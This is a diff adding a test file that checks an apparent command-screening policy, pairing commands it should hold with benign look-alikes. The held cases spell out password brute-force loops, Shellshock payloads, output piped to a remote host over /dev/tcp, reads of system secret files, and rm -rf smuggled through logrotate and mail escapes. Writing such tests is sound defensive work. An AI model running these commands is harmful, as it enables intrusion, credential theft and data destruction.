@@ -1,0 +1,45 @@
+/** Passwords that are tried out, functions handed on as values, and what is printed into a connection. */
+import { expect, test } from "vitest";
+import { judgeIn } from "../../../support/little-world.ts";
+
+async function check(text: string, expected: "held" | "passes"): Promise<void> {
+  const { decision } = await judgeIn({}, { kind: "command", text } as never);
+  expect(decision === "allow" ? "passes" : "held", text).toBe(expected);
+}
+
+test.each([
+  // A loop's variable where a login takes its password.
+  ['for p in $(cat words); do sshpass -p "$p" ssh root@10.0.0.5 true; done', "held"],
+  ['while read p; do echo "$p" | su -c id root; done < words', "held"],
+  ['while read u p; do curl -s -u "$u:$p" https://a.example/login; done < pairs', "held"],
+  ["for p in admin root toor; do mysql -uroot -p$p -h 10.0.0.5 -e 'select 1'; done", "held"],
+  ['for p in $(cat words); do unzip -P "$p" a.zip && break; done', "held"],
+  ['for u in $(cat users); do curl -s -u "$u:$TOKEN" https://a.example/me; done', "passes"],
+  ['for f in *.zip; do unzip -o "$f"; done', "passes"],
+  ['while read -r line; do echo "$line" | sudo tee -a /tmp/hosts; done < hosts', "passes"],
+  ['for db in a b; do mysql -uroot -p"$PASS" -e "show tables" "$db"; done', "passes"],
+  ['for h in web db cache; do sshpass -p "$PASS" ssh "dev@$h" uptime; done', "passes"],
+  // A function's definition as a value.
+  ["env 'x=() { :;}; /bin/sh -c id' bash -c true", "held"],
+  ["curl -A '() { :;}; /bin/ping 203.0.113.1' http://10.0.0.5/cgi-bin/status", "held"],
+  ["env 'BASH_FUNC_ls%%=() { id; }' bash -c ls", "held"],
+  ["bash -c 'f() { :; }; f'", "passes"],
+  ["curl -A 'Mozilla/5.0 (X11; Linux)' http://localhost:3000", "passes"],
+  // What a program prints, into the shell's own connection.
+  ["id > /dev/tcp/203.0.113.9/99", "held"],
+  ["sort notes > /dev/tcp/203.0.113.9/99", "held"],
+  ["echo ping > /dev/tcp/cache.example/6379", "passes"],
+  ["ps aux > /dev/tcp/localhost/9000", "passes"],
+  ["timeout 1 bash -c '</dev/tcp/db.example/5432' && echo up", "passes"],
+  // Files of other programs that hold secrets of the system.
+  ["sudo tdbdump /var/lib/sss/secrets/secrets.ldb", "held"],
+  ["sudo grep -r psk= /etc/NetworkManager/system-connections/", "held"],
+  ["acme-view /etc/ppp/chap-secrets", "held"],
+  ["sudo cat /etc/NetworkManager/NetworkManager.conf", "passes"],
+  ["ls -l /etc/NetworkManager/system-connections", "passes"],
+  // What a file of the same text has a program run.
+  ["printf '/a {\\n prerotate\\n rm -rf /home/dev\\n endscript\\n}\\n' > /tmp/l; logrotate -f /tmp/l", "held"],
+  ["printf '/a {\\n postrotate\\n kill -HUP 77\\n endscript\\n}\\n' > /tmp/l; logrotate -f /tmp/l", "passes"],
+  ["printf '~!rm -rf /home/dev\\n' | mail -s x root@localhost", "held"],
+  ["printf 'All done!\\n' | mail -s x root@localhost", "passes"],
+] as const)("%s is %s", check);
